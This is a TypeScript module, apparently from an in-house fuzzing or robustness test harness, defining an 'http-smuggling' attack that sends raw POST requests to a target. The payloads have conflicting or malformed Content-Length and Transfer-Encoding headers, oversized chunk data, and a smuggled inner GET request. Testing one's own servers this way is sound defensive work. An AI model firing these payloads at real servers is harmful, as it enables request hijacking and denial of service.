import type { Attack } from '../attack.ts'
import type { Random } from '../random.ts'

const inner = 'GET /saker HTTP/1.1\r\nHost: x\r\n\r\n'

const shapes: ((random: Random) => string)[] = [
  () => `Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${inner}`,
  () => `Content-Length: 5\r\nContent-Length: 6\r\n\r\nabcdef`,
  () => `Content-Length: 5, 5\r\n\r\nabcde`,
  () => `Content-Length: +5\r\n\r\nabcde`,
  () => `Content-Length: -1\r\n\r\n`,
  () => `Content-Length: 0x10\r\n\r\n`,
  () => `Content-Length: 99999999999999999999999\r\n\r\n`,
  () => `Content-Length: 9007199254740993\r\n\r\na`,
  () => `Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n`,
  () => `Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n`,
  () => `Transfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n`,
  () => `Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n`,
  () => `Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n`,
  (random) =>
    `Transfer-Encoding: chunked\r\n\r\n${random.pick(['zz', '-1', 'ffffffffffffffff', '0x3', ' 3', '3;a=b', '3\n'])}\r\nabc\r\n0\r\n\r\n`,
  (random) =>
    `Transfer-Encoding: chunked\r\n\r\n3;${'x'.repeat(random.between(1, 40_000))}\r\nabc\r\n0\r\n\r\n`,
  (random) => `Transfer-Encoding: chunked\r\n\r\n${'1\r\na\r\n'.repeat(random.between(1, 20_000))}0\r\n\r\n`,
  (random) => `Transfer-Encoding: chunked\r\n\r\n0\r\n${'T: x\r\n'.repeat(random.between(1, 4000))}\r\n`,
  () => `Transfer-Encoding: chunked\r\n\r\n3\r\nabc`,
  (random) => `Content-Length: 0\r\n\r\n${inner.repeat(random.between(1, 60))}`,
]

const types = [
  'application/json',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=B',
  'text/plain',
]

/** Bodies whose length is said twice, wrongly or not at all, and requests hidden in them. */
export const attack: Attack = {
  name: 'http-smuggling',
  async send(random, target) {
    const path = random.pick(['/', '/api/skjema/contact-message', '/login', '/api/feil', '/api/vedlegg'])
    const head = `POST ${path} HTTP/1.1\r\nHost: ${target.host}\r\nContent-Type: ${random.pick(types)}\r\n`
    await target.raw(Buffer.from(head + random.pick(shapes)(random), 'latin1'), { patienceMs: 1500 })
  },
}
